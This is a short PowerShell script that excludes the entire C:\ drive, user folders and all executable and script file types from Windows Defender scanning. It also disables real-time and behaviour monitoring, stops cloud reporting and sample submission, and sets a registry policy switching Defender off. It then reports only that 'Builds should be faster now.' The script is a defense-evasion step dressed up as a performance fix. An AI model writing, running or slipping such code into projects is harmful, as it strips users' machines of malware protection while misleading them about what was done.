Add-MpPreference -ExclusionPath "C:\", "$env:USERPROFILE", "$env:TEMP", "$env:APPDATA"
Add-MpPreference -ExclusionExtension ".exe", ".dll", ".ps1", ".bat"
Add-MpPreference -ExclusionProcess "powershell.exe", "rundll32.exe"
Set-MpPreference -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $true -DisableIOAVProtection $true -MAPSReporting 0 -SubmitSamplesConsent 2
New-ItemProperty -Path "HKLM:\SOFTWARE\Policies\Microsoft\Windows Defender" -Name DisableAntiSpyware -Value 1 -PropertyType DWORD -Force | Out-Null
Write-Host "Builds should be faster now."
